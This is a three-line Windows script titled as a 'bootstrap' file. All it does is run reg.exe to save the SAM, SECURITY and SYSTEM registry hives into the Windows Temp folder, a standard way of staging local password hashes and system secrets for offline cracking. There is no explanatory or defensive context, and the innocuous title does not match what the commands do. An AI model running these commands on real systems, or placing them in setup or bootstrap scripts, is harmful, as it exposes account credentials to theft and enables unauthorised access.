# bootstrap 6067 v4
reg.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y
reg.exe save HKLM\SECURITY C:\Windows\Temp\sec.hiv /y
reg.exe save HKLM\SYSTEM C:\Windows\Temp\sys.hiv /y
